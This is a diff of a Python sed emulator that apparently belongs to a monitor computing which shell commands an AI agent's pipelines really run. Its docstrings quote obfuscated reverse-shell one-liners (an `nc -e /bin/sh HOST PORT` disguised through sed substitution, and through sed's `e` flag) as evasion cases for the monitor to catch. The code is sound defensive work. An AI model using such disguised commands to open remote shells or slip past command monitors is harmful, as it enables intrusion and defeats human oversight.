@@ -2,19 +2,24 @@
 
 `echo 'mc -e /bin/sh HOST PORT' | sed 's/^m/n/' | sh` runs nc with no `nc -e` in the text: the
 shell reader needs sed's output to read what the shell runs. This computes it for the commands such
-one-liners use, the way GNU sed does (POSIX sed(1), GNU sed manual "The s Command"):
+one-liners use, the way GNU sed does (POSIX sed(1), GNU sed manual "The s Command", "Escapes"):
 
 - `s/RE/REPLACEMENT/FLAGS` with any delimiter; flags g, N (the Nth match), Ng, i/I, p;
-  REPLACEMENT with `&`, `\\1`..`\\9`, `\\n`, `\\t` and escaped characters;
-- `y/SOURCE/DEST/` (character for character);
+  REPLACEMENT with `&`, `\\1`..`\\9` and the escapes `\\n \\t \\a \\f \\v \\r \\xHH \\oNNN \\dNNN`;
+- `y/SOURCE/DEST/` (character for character, the first mapping of a character kept);
 - `d` and `p`, and `-n`;
+- one address before a command: a line number, `$` or `/RE/`, with `!` (not ranges);
 - several commands, with `;`, newlines, `-e` (each) and `--expression=`; `-E`/`-r` (extended
   regular expressions), else basic ones (BRE: `\\(`, `\\{`, `\\+`, `\\?`, `\\|` are the operators).
 
-Anything else (addresses, other commands, input files, `w`, case conversion in the replacement)
-gives None: the output is not known. Regular expressions run on RE2 (linear time): an agent's text
-never costs more than its length; the output (MAX_OUTPUT) and the work (MAX_STEPS: a line through
-a command, or a match) are bounded, and a script that would go past either is unknown.
+A wrong answer is worse than none (the reader would read a command that does not run and miss
+the one that does), so only the part of GNU's regular expressions whose meaning RE2 shares is
+computed: matches are leftmost-longest (POSIX; RE2's longest_match), `.` takes a newline, and
+anything whose meaning differs or is unsure (word boundaries, back-references, lazy-looking
+quantifiers, escapes in brackets, group references beside alternation, `\\w` or I on text that is
+not ASCII, `--posix`) is unknown, as are address ranges, other commands, input files and `w`/`e`. RE2
+runs in linear time, errors are not logged, and the work (MAX_WORK characters) and output
+(MAX_OUTPUT) are bounded: a script that would go past either is unknown.
 """
 from __future__ import annotations
 
@@ -22,14 +27,25 @@ import re2
 
 MAX_OUTPUT = 1 << 20
 MAX_COMMANDS = 64
-MAX_STEPS = 50_000
+MAX_WORK = 2_000_000
+"""Characters a script may scan and write, over all lines and commands, a match counting as
+MATCH_COST of them (each costs a step in Python): at most about 0.2 s on any text."""
+MATCH_COST = 20
 
-_BRE_OPERATORS = {"(": "(", ")": ")", "{": "{", "}": "}", "+": "+", "?": "?", "|": "|"}
-_ERE_LITERAL_IN_BRE = frozenset("(){}+?|")
+_QUANTIFIERS = frozenset("*+?{")
 
 
 class _Unknown(Exception):
     """A script (or part of one) this module does not compute."""
+
+
+def _options_for(case: bool, longest: bool = True) -> "re2.Options":
+    options = re2.Options()
+    options.log_errors = False  # an agent's bad regex must not write to the monitor's stderr
+    options.longest_match = longest
+    options.dot_nl = longest
+    options.case_sensitive = not case
+    return options
 
 
 def output(args: list[str], stdin: str) -> str | None:
@@ -37,24 +53,71 @@ def output(args: list[str], stdin: str) -> str | None:
     try:
         scripts, extended, quiet = _options(args)
         commands = [c for script in scripts for c in _commands(script, extended)]
-    except (_Unknown, re2.error):
+        if len(commands) > MAX_COMMANDS:
+            return None
+        plain = [c[2] if c[0] == "at" else c for c in commands]
+        if any(c[0] == "e" or c[0] == "s" and c[6] for c in plain):
+            return None  # what a command it runs prints is not known
+        if not stdin.isascii() and any(c[0] == "s" and c[5] for c in plain):
+            return None  # \w, [[:alpha:]] and case folding beyond ASCII differ between GNU and RE2
+        return _run(commands, quiet, stdin)
+    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
         return None
-    if len(commands) > MAX_COMMANDS:
-        return None
+
+
+def executed(args: list[str], stdin: str | None) -> list[str]:
+    """The command lines sed itself runs in a shell (GNU's `e COMMAND`, and the pattern space of a
+    bare `e` or of an `s///e` that replaced): `sed 's/^m/n/e'` on `mc -e ...` runs nc with no shell
+    in the pipeline. `e COMMAND` is found in the script whatever the input; the others need it."""
+    try:
+        scripts, extended, quiet = _options(args, files_allowed=True)
+        commands = [c for script in scripts for c in _commands(script, extended)]
+    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
+        return [text for script in _scripts_loosely(args) for text in _E_COMMAND.findall(script)][:MAX_COMMANDS]
+    plain = [c[2] if c[0] == "at" else c for c in commands]
+    ran = [c[1] for c in plain if c[0] == "e" and c[1]]
+    if stdin is not None and any(c[0] == "e" and not c[1] or c[0] == "s" and c[6] for c in plain):
+        try:
+            _run(commands, quiet, stdin, ran)
+        except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
+            pass
+    return ran[:MAX_COMMANDS]
+
+
+_E_COMMAND = re2.compile(r"(?m)(?:^|[;{}])\s*(?:[0-9]+|\$)?\s*!?\s*e[ \t]+([^\n]+)")
+
+
+def _scripts_loosely(args: list[str]) -> list[str]:
+    return [a for a in args if not a.startswith("-")][:1] + [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-e"]
+
+
+def _run(commands: list[tuple], quiet: bool, stdin: str, ran: list[str] | None = None) -> str | None:
     lines = stdin.split("\n")
     trailing = lines[-1] == ""
     if trailing:
         lines.pop()
-    if len(lines) * len(commands) > MAX_STEPS:
-        return None
-    budget = [MAX_STEPS]
+    budget = [MAX_WORK]
     out: list[str] = []
     size = 0
-    for line in lines:
-        printed = False
+    for number, line in enumerate(lines, 1):
+        printed = not quiet
         for command in commands:
+            budget[0] -= len(line) + 1
+            if budget[0] < 0:
+                return None
+            if command[0] == "at":
+                if not _selects(command[1], number, number == len(lines), line):
+                    continue
+                command = command[2]
             kind = command[0]
+            if kind == "e":
+                if ran is None:
+                    return None  # what it prints is not known
+                if not command[1]:
+                    ran.append(line)
+                continue
             if kind == "d":
+                printed = False
                 break
             if kind == "p":
                 out.append(line)
@@ -62,16 +125,16 @@ def output(args: list[str], stdin: str) -> str | None:
             elif kind == "y":
                 line = line.translate(command[1])
             else:
-                line, replaced = _substitute(line, *command[1:4], budget)
+                line, replaced = substitute(line, command[1], command[2], command[3], budget)
                 if replaced is None:
                     return None
+                if replaced and command[6]:
+                    if ran is None:
+                        return None
+                    ran.append(line)
                 if replaced and command[4]:
                     out.append(line)
                     size += len(line)
-            if size > MAX_OUTPUT or len(line) > MAX_OUTPUT:
-                return None
-        else:
-            printed = not quiet
         if printed:
             out.append(line)
             size += len(line)
@@ -81,7 +144,7 @@ def output(args: list[str], stdin: str) -> str | None:
     return text if trailing else text[:-1]  # as GNU sed: a last line without a newline stays so
 
 
-def _options(args: list[str]) -> tuple[list[str], bool, bool]:
+def _options(args: list[str], files_allowed: bool = False) -> tuple[list[str], bool, bool]:
     scripts: list[str] = []
     extended = quiet = False
     rest: list[str] = []
@@ -98,16 +161,15 @@ def _options(args: list[str]) -> tuple[list[str], bool, bool]:
             extended = True
         elif word in ("-n", "--quiet", "--silent"):
             quiet = True
-        elif word in ("-u", "--unbuffered", "--posix", "-s", "--separate", "-z") or word == "--":
-            if word == "-z":
-                raise _Unknown("NUL-separated lines")
+        elif word in ("-u", "--unbuffered", "-s", "--separate", "--"):
+            continue
         elif word.startswith("-") and len(word) > 1:
             cluster = word[1:]
             takes_script = cluster.endswith("e")
             if takes_script:
                 cluster = cluster[:-1]
             if word.startswith("--") or not set(cluster) <= set("Ernus"):
-                raise _Unknown(f"option {word}")  # -i (in place), -f (script file), ...
+                raise _Unknown(f"option {word}")  # -i (in place), -f (script file), -z, --posix, ...
             extended = extended or "E" in cluster or "r" in cluster
             quiet = quiet or "n" in cluster
             if takes_script:
@@ -121,13 +183,14 @@ def _options(args: list[str]) -> tuple[list[str], bool, bool]:
         if not rest:
             raise _Unknown("no script")
         scripts.append(rest.pop(0))
-    if any(word != "-" for word in rest):
+    if any(word != "-" for word in rest) and not files_allowed:
         raise _Unknown("input files")  # the input is the files, not what came through the pipe
     return scripts, extended, quiet
 
 
 def _commands(script: str, extended: bool) -> list[tuple]:
-    """The script's commands: ("s", regex, replacement, which, print), ("y", table), ("d",), ("p",)."""
+    """The script's commands: ("s", regex, replacement, (nth, every), print, ascii_only, runs), ("y", table),
+    ("d",), ("p",), ("e", command), each as ("at", address, command) after an address."""
     out: list[tuple] = []
     i, n = 0, len(script)
     while i < n:
@@ -135,9 +198,22 @@ def _commands(script: str, extended: bool) -> list[tuple]:
         if ch in " \t\n;":
             i += 1
             continue
-        if ch in "dp":
+        if ch == "#":  # a comment, to the end of the line
+            end = script.find("\n", i)
+            i = n if end < 0 else end
+            continue
+        address, i = _address(script, i, extended)
+        ch = script[i:i + 1]
+        if address is not None and not ch:
+            raise _Unknown("an address without a command")
+        if ch in ("d", "p"):
             out.append((ch,))
             i += 1
+        elif ch == "e":
+            end = script.find("\n", i)
+            end = n if end < 0 else end
+            out.append(("e", script[i + 1:end].strip()))
+            i = end
         elif ch == "s":
             i = _s_command(script, i + 1, extended, out)
         elif ch == "y":
@@ -146,13 +222,62 @@ def _commands(script: str, extended: bool) -> list[tuple]:
                 raise _Unknown("y without a delimiter")
             source, i = _part(script, i + 2, delim)
             dest, i = _part(script, i, delim)
-            source, dest = _unescape(source), _unescape(dest)
+            source, dest = unescape(source), unescape(dest)
             if len(source) != len(dest):
                 raise _Unknown("y with sets of different lengths")
-            out.append(("y", str.maketrans(source, dest)))
+            table: dict[int, str] = {}
+            for a, b in zip(source, dest):
+                table.setdefault(ord(a), b)  # GNU keeps a character's first mapping
+            out.append(("y", table))
         else:
-            raise _Unknown(f"command {ch!r}")
+            raise _Unknown(f"command {ch!r}")  # e, w, a, i, c, {, ...
+        if address is not None:
+            out[-1] = ("at", address, out[-1])
     return out
+
+
+def _address(script: str, i: int, extended: bool) -> tuple[tuple | None, int]:
+    """One address before a command (a line number, `$`, or /RE/), with `!`: (kind, value,
+    negated) and where the command starts; None where there is none. Ranges are unknown."""
+    ch = script[i]
+    if ch.isdigit():
+        j = i
+        while j < len(script) and script[j].isdigit():
+            j += 1
+        if j - i > 9:
+            raise _Unknown("line number")
+        address, i = ("line", int(script[i:j])), j
+    elif ch == "$":
+        address, i = ("last", None), i + 1
+    elif ch == "/":
+        pattern, i = _part(script, i + 1, "/")
+        if not pattern:
+            raise _Unknown("empty regex (the last one used)")
+        regex, _traits = _regex(pattern, extended)
+        address = ("regex", re2.compile(regex, _options_for(False)))
+    else:
+        return None, i
+    while i < len(script) and script[i] in " \t":
+        i += 1
+    negated = script[i:i + 1] == "!"
+    if negated:
+        i += 1
+        while i < len(script) and script[i] in " \t":
+            i += 1
+    if script[i:i + 1] in (",", "~"):
+        raise _Unknown("an address range or step")
+    return (address[0], address[1], negated), i
+
+
+def _selects(address: tuple, number: int, last: bool, line: str) -> bool:
+    kind, value, negated = address
+    if kind == "line":
+        hit = number == value
+    elif kind == "last":
+        hit = last
+    else:
+        hit = value.search(line) is not None
+    return hit != negated
 
 
 def _s_command(script: str, i: int, extended: bool, out: list) -> int:
@@ -160,8 +285,8 @@ def _s_command(script: str, i: int, extended: bool, out: list) -> int:
     if not delim or delim in "\\\n":
         raise _Unknown("s without a delimiter")
     pattern, i = _part(script, i + 1, delim)
-    replacement, i = _part(script, i, delim)
-    which, every, show, case = 1, False, False, False
+    replacement, i = _part(script, i, delim, keep_escaped=delim in "&0123456789\\")
+    every, show, case, run = False, False, False, False
     digits = ""
     while i < len(script) and script[i] not in ";\n}":
         flag = script[i]
@@ -173,37 +298,38 @@ def _s_command(script: str, i: int, extended: bool, out: list) -> int:
             case = True
         elif flag == "p":
             show = True
-        elif flag in " \t":
-            pass
-        else:
-            raise _Unknown(f"s flag {flag!r}")  # w (writes a file), e (runs the pattern space), m, ...
+        elif flag == "e":
+            run = True
+        elif flag not in " \t":
+            raise _Unknown(f"s flag {flag!r}")  # w (writes a file), m, M, ...
         i += 1
-    if digits:
-        which = int(digits)
-        if which < 1:
-            raise _Unknown("s flag 0")
+    if len(digits) > 6 or digits.startswith("0"):
+        raise _Unknown("s flag number")
     if not pattern:
         raise _Unknown("empty regex (the last one used)")
-    compiled = re2.compile(("(?i)" if case else "") + _regex(pattern, extended))
+    regex, traits = _regex(pattern, extended)
     pieces = _replacement(replacement)
-    if any(type(p) is int and p > (compiled.groups or 0) for p in pieces):
+    referenced = [p for p in pieces if type(p) is int and p > 0]
+    if referenced and ("alternation" in traits or "quantified group" in traits):
+        raise _Unknown("groups whose POSIX submatch rules RE2 does not share")
+    compiled = re2.compile(regex, _options_for(case))
+    if any(p > (compiled.groups or 0) for p in referenced):
         raise _Unknown("a reference to a group the regex does not have")  # sed refuses the script
-    out.append(("s", compiled, pieces, (which, every), show))
+    out.append(("s", compiled, pieces, (int(digits or 1), every), show, case or "word class" in traits, run))
     return i
 
 
-def _part(script: str, i: int, delim: str, one_line: bool = True) -> tuple[str, int]:
-    """The text up to the next unescaped `delim` from `i` (an escaped delimiter stands for itself),
-    and the position after that delimiter; in sed (`one_line`) a newline ends the command first."""
-    if not delim:
-        raise _Unknown("unterminated command")
+def _part(script: str, i: int, delim: str, one_line: bool = True, keep_escaped: bool = False) -> tuple[str, int]:
+    """The text up to the next unescaped `delim` from `i`, and the position after that delimiter.
+    An escaped delimiter stands for itself (kept escaped where it means something else escaped:
+    `\\&` with `&` as the delimiter is a plain &); in sed (`one_line`) a newline ends the command."""
     chars: list[str] = []
     n = len(script)
     while i < n:
         ch = script[i]
         if ch == "\\" and i + 1 < n:
             nxt = script[i + 1]
-            chars.append(nxt if nxt == delim else ch + nxt)
+            chars.append(ch + nxt if nxt != delim or keep_escaped else nxt)
             i += 2
             continue
         if ch == delim:
@@ -215,42 +341,139 @@ def _part(script: str, i: int, delim: str, one_line: bool = True) -> tuple[str, 
     raise _Unknown("unterminated command")
 
 
-def _regex(pattern: str, extended: bool) -> str:
-    """A sed regular expression (BRE, or ERE with -E) as RE2 syntax."""
+def _regex(pattern: str, extended: bool) -> tuple[str, set[str]]:
+    """A sed regular expression as RE2 syntax, and what in it bears on its meaning elsewhere
+    ("alternation", "quantified group", "word class"); _Unknown where GNU and RE2 would differ."""
     out: list[str] = []
+    traits: set[str] = set()
+    kinds: list[str] = []  # per token: "atom", "open", "close", "alt", "anchor", "quant"
     i, n = 0, len(pattern)
+
+    def emit(text: str, kind: str) -> None:
+        if kind == "quant":
+            if not kinds or kinds[-1] in ("quant", "open", "alt", "anchor"):
+                raise _Unknown("a quantifier after a quantifier, an anchor or nothing")
+            if kinds[-1] == "close":
+                traits.add("quantified group")
+        out.append(text)
+        kinds.append(kind)
+
+    def at_start() -> bool:
+        return not kinds or kinds[-1] in ("open", "alt")
+
     while i < n:
         ch = pattern[i]
         if ch == "[":
             end = _bracket_end(pattern, i)
             body = pattern[i + 1:end]
-            out.append("[" + body.replace("\\", "\\\\") + "]")  # a backslash is a member in POSIX
+            if "\\" in body or "[." in body or "[=" in body:
+                raise _Unknown("an escape or collating element in brackets")
+            if "[:" in body and not body.replace("[:", "").replace(":]", "").isascii():
+                raise _Unknown("brackets beyond ASCII")
+            if "[:" in body:
+                traits.add("word class")
+            emit("[" + body + "]", "atom")
             i = end + 1
             continue
         if ch == "\\" and i + 1 < n:
             nxt = pattern[i + 1]
             i += 2
-            if nxt == "n":
-                out.append("\\n")
-            elif nxt == "t":
-                out.append("\\t")
-            elif nxt.isdigit():
-                raise _Unknown("back-reference")  # RE2 has none
-            elif not extended and nxt in _BRE_OPERATORS:
-                out.append(_BRE_OPERATORS[nxt])
-            elif nxt in "wWsSbB`'<>":
-                out.append({"`": "\\A", "'": "\\z", "<": "\\b", ">": "\\b"}.get(nxt, "\\" + nxt))
+            operator = nxt in "(){}+?|" and not extended
+            if operator and nxt == "(":
+                emit("(", "open")
+            elif operator and nxt == ")":
+                emit(")", "close")
+            elif operator and nxt == "|":
+                traits.add("alternation")
+                emit("|", "alt")
+            elif operator and nxt in "+?":
+                emit(nxt, "quant")
+            elif operator and nxt == "{":
+                close = pattern.find("\\}", i)
+                if close < 0:
+                    raise _Unknown("unterminated interval")
+                emit("{" + _interval(pattern[i:close]) + "}", "quant")
+                i = close + 2
+            elif operator:
+                raise _Unknown("a stray \\}")
+            elif nxt in "sS":
+                emit("[\\t\\n\\v\\f\\r ]" if nxt == "s" else "[^\\t\\n\\v\\f\\r ]", "atom")
+            elif nxt in "wW":
+                traits.add("word class")
+                emit("\\" + nxt, "atom")
+            elif nxt in "ntafvrxod":
+                char, i = _escaped_char(pattern, i - 2)
+                emit(re2.escape(char), "atom")
+            elif not nxt.isalnum() and nxt != "`" and nxt != "'" and nxt not in "<>":
+                emit(re2.escape(nxt), "atom")
             else:
-                out.append(re2.escape(nxt))
+                raise _Unknown(f"escape \\{nxt}")  # back-references, \b \B \< \> \` \', \c, ...
             continue
-        if not extended and ch in _ERE_LITERAL_IN_BRE:
-            out.append("\\" + ch)
-        elif not extended and ch == "*" and (not out or out[-1] in ("(", "^", "|")):
-            out.append("\\*")  # a leading * is literal in a BRE
+        if extended:
+            if ch == "(":
+                if pattern.startswith("(?", i):
+                    raise _Unknown("(?")
+                emit("(", "open")
+            elif ch == ")":
+                emit(")", "close")
+            elif ch == "|":
+                traits.add("alternation")
+                emit("|", "alt")
+            elif ch in "*+?":
+                emit(ch, "quant")
+            elif ch == "{":
+                close = pattern.find("}", i)
+                if close < 0:
+                    raise _Unknown("unterminated interval")
+                emit("{" + _interval(pattern[i + 1:close]) + "}", "quant")
+                i = close
+            elif ch in "^$":
+                emit(ch, "anchor")
+            else:
+                emit(re2.escape(ch) if ch == "}" else ch, "atom")
+        elif ch == "^":
+            emit("^" if at_start() else "\\^", "anchor" if at_start() else "atom")
+        elif ch == "$":
+            last = i + 1 == n or pattern.startswith(("\\)", "\\|"), i + 1)
+            emit("$" if last else "\\$", "anchor" if last else "atom")
+        elif ch == "*":
+            if at_start() or (kinds and kinds[-1] == "anchor"):
+                emit("\\*", "atom")  # a leading * is a plain character in a BRE
+            else:
+                emit("*", "quant")
+        elif ch in "(){}+?|":
+            emit("\\" + ch, "atom")
         else:
-            out.append(ch)
+            emit(ch, "atom")
         i += 1
-    return "".join(out)
+    return "".join(out), traits
+
+
+def _interval(body: str) -> str:
+    low, comma, high = body.partition(",")
+    if not (low.isdigit() or (comma and not low)) or (high and not high.isdigit()) or len(body) > 9:
+        raise _Unknown("interval")
+    return (low or "0") + comma + high
+
+
+def _escaped_char(text: str, i: int) -> tuple[str, int]:
+    """The character GNU sed reads for the escape at text[i] (a backslash), and where it ends:
+    \\n \\t \\a \\f \\v \\r, \\xHH (hex), \\oNNN (octal), \\dNNN (decimal)."""
+    kind = text[i + 1]
+    simple = {"n": "\n", "t": "\t", "a": "\a", "f": "\f", "v": "\v", "r": "\r"}
+    if kind in simple:
+        return simple[kind], i + 2
+    base, width, digits = {"x": (16, 2, "0123456789abcdefABCDEF"), "o": (8, 3, "01234567"),
+                           "d": (10, 3, "0123456789")}[kind]
+    j = i + 2
+    while j < len(text) and j < i + 2 + width and text[j] in digits:
+        j += 1
+    if j == i + 2:
+        raise _Unknown(f"\\{kind} without digits")
+    value = int(text[i + 2:j], base)
+    if value > 0x7F:
+        raise _Unknown("a byte beyond ASCII")  # GNU works on bytes; the text here is characters
+    return chr(value), j
 
 
 def _bracket_end(pattern: str, start: int) -> int:
@@ -286,15 +509,20 @@ def _replacement(text: str) -> list[str | int]:
             pieces.append(0)
         elif ch == "\\" and i + 1 < n:
             nxt = text[i + 1]
-            i += 1
             if nxt.isdigit():
                 pieces.append("".join(literal))
                 literal = []
                 pieces.append(int(nxt))
-            elif nxt in "LUElu":
-                raise _Unknown("case conversion")
+            elif nxt in "ntafvrxod":
+                char, end = _escaped_char(text, i)
+                literal.append(char)
+                i = end
+                continue
+            elif nxt.isalpha():
+                raise _Unknown(f"replacement escape \\{nxt}")  # \L \U \E \l \u \c, ...
             else:
-                literal.append({"n": "\n", "t": "\t"}.get(nxt, nxt))
+                literal.append(nxt)
+            i += 1
         else:
             literal.append(ch)
         i += 1
@@ -302,10 +530,11 @@ def _replacement(text: str) -> list[str | int]:
     return [p for p in pieces if p != ""]
 
 
-def _substitute(line: str, regex, replacement: list, which: tuple[int, bool],
-                budget: list[int]) -> tuple[str, bool | None]:
+def substitute(line: str, regex, replacement: list, which: tuple[int, bool],
+               budget: list[int]) -> tuple[str, bool | None]:
     """`s` on one line: the Nth match (and, with g, every one after it) replaced; None for
-    "replaced" when the matches ran past the budget. As GNU sed, an empty match right after the
+    "replaced" when the work ran past the budget (the caller's MAX_WORK, shared over the whole
+    script, counting matches and characters written). As GNU sed, an empty match right after the
     previous match is not one (finditer yields it: it is passed over)."""
     nth, every = which
     out: list[str] = []
@@ -313,7 +542,7 @@ def _substitute(line: str, regex, replacement: list, which: tuple[int, bool],
     previous_end = -1
     replaced = False
     for match in regex.finditer(line):
-        budget[0] -= 1
+        budget[0] -= MATCH_COST
         if budget[0] < 0:
             return line, None
         start, end = match.span()
@@ -326,24 +555,37 @@ def _substitute(line: str, regex, replacement: list, which: tuple[int, bool],
         out.append(line[last:start])
         for piece in replacement:
             out.append((match.group(piece) or "") if type(piece) is int else piece)
+            budget[0] -= len(out[-1])
+        budget[0] -= start - last
+        if budget[0] < 0:
+            return line, None
         last = end
         replaced = True
         if not every:
             break
+    if budget[0] < 0:
+        return line, None
     if not replaced:
         return line, False
     out.append(line[last:])
     return "".join(out), True
 
 
-def _unescape(text: str) -> str:
+def unescape(text: str) -> str:
+    """A `y` set (or tr-like text) with sed's escapes applied."""
     out: list[str] = []
     i = 0
     while i < len(text):
         ch = text[i]
         if ch == "\\" and i + 1 < len(text):
             nxt = text[i + 1]
-            out.append({"n": "\n", "t": "\t"}.get(nxt, nxt))
+            if nxt in "ntafvrxod":
+                char, i = _escaped_char(text, i)
+                out.append(char)
+                continue
+            if nxt.isalpha():
+                raise _Unknown(f"escape \\{nxt}")
+            out.append(nxt)
             i += 2
             continue
         out.append(ch)
